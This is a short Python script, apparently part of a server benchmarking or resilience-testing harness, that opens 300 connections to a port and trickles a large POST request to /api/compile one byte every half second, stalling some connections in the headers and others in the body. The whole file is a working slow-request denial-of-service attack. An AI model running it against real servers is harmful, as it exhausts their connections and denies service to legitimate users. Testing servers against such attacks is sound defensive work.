"""Connections on which a request arrives byte after byte: headers on half of them, a body on the others."""

from __future__ import annotations

import time

from bench.attacks.client import GoesOn, connect, main, post, side_by_side

CONNECTIONS = 300
REQUEST = post("/api/compile", {"source": "# " + "x" * 100_000})
HEAD = REQUEST.index(b"\r\n\r\n") + 4


def attack(port: int, source: str, goes_on: GoesOn) -> None:
    def trickle(number: int) -> None:
        while goes_on():
            try:
                with connect(port, source) as connection:
                    at = HEAD + 50_000 if number % 2 else 20
                    connection.sendall(REQUEST[:at])
                    while goes_on():
                        time.sleep(0.5)
                        connection.sendall(REQUEST[at : at + 1])
                        at += 1
            except OSError:
                time.sleep(0.2)

    side_by_side(CONNECTIONS, trickle)


if __name__ == "__main__":
    main(attack)
